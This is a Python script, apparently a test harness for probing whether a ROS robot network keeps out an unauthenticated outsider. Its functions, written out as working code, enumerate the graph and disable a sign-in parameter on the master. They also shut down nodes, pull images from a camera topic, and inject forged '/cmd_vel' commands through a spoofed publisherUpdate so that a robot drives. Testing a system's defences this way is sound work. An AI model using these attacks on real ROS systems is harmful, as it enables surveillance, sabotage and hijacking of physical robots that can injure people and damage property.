"""A stranger with Python and no ROS, who attacks a ROS graph by its wire: prints "through" when an attack succeeds.

    python ros_stranger.py ATTACK MASTER [NODE [OWN ADDRESS]]

MASTER and NODE are the addresses (http://host:port) of the master and of a node's own XML-RPC server. ATTACK is one of
the functions below. It ends after some seconds at the latest.
"""

from __future__ import annotations

import socket
import struct
import sys
import threading
import xmlrpc.client
import xmlrpc.server

PATIENCE = 2.0
"""Seconds for an answer; a firewall that drops gives none."""
ME = "/stranger"
TWIST_MD5 = "9f195f881246fdfa2798d1d3eebca84a"
Proxy = xmlrpc.client.ServerProxy


def read_graph(master: str) -> bool:
    """Learn which robots, topics and nodes there are."""
    return Proxy(master).getSystemState(ME)[0] == 1


def sign_in_off(master: str) -> bool:
    """Turn the sign-in off for the next start of the program that asks for it."""
    Proxy(master).setParam(ME, "/sign_in", False)
    return Proxy(master).getParam(ME, "/sign_in")[2] is False


def shut_down(master: str, node: str) -> bool:
    """End a node by its own interface."""
    return Proxy(node).getPid(ME)[0] == 1 and Proxy(node).shutdown(ME, "go away")[0] == 1


def see_camera(master: str, node: str) -> bool:
    """Fetch a picture from the node that publishes them."""
    code, _, place = Proxy(node).requestTopic(ME, "/camera/image_raw", [["TCPROS"]])
    host = node.partition("//")[2].partition(":")[0]  # whatever address it announces, this is where it answers
    with socket.create_connection((host, place[2]), PATIENCE) as connection:
        connection.sendall(header(callerid=ME, topic="/camera/image_raw", type="*", md5sum="*"))
        received = b""
        while b"PICTURE" not in received:
            block = connection.recv(65536)
            if not block:
                return False
            received += block
    return code == 1


def drive(master: str, node: str, own: str) -> bool:
    """Make the node listen to our cmd_vel, and send one."""
    listener = socket.create_server((own, 0))
    listener.settimeout(2 * PATIENCE)
    api = xmlrpc.server.SimpleXMLRPCServer((own, 0), logRequests=False)
    port = listener.getsockname()[1]
    api.register_function(lambda caller, topic, protocols: [1, "", ["TCPROS", own, port]], "requestTopic")
    threading.Thread(target=api.serve_forever, daemon=True).start()
    uri = f"http://{own}:{api.server_address[1]}/"
    if Proxy(node).publisherUpdate("/master", "/cmd_vel", [uri])[0] != 1:
        return False
    connection, _ = listener.accept()
    with connection:
        connection.recv(65536)
        connection.sendall(header(callerid=ME, topic="/cmd_vel", type="geometry_msgs/Twist", md5sum=TWIST_MD5))
        connection.sendall(struct.pack("<I6d", 48, 0.5, 0, 0, 0, 0, 0))
        connection.settimeout(0.5)
        try:
            return connection.recv(1) == b"?"  # the node hangs up when it wants none
        except TimeoutError:
            return True


def header(**fields: str) -> bytes:
    """Return the header of a TCPROS connection."""
    lines = [f"{name}={value}".encode() for name, value in fields.items()]
    text = b"".join(struct.pack("<I", len(line)) + line for line in lines)
    return struct.pack("<I", len(text)) + text


if __name__ == "__main__":
    socket.setdefaulttimeout(PATIENCE)
    try:
        print("through" if globals()[sys.argv[1]](*sys.argv[2:]) else "refused")
    except (OSError, xmlrpc.client.Error) as error:
        print(f"kept out: {error}")
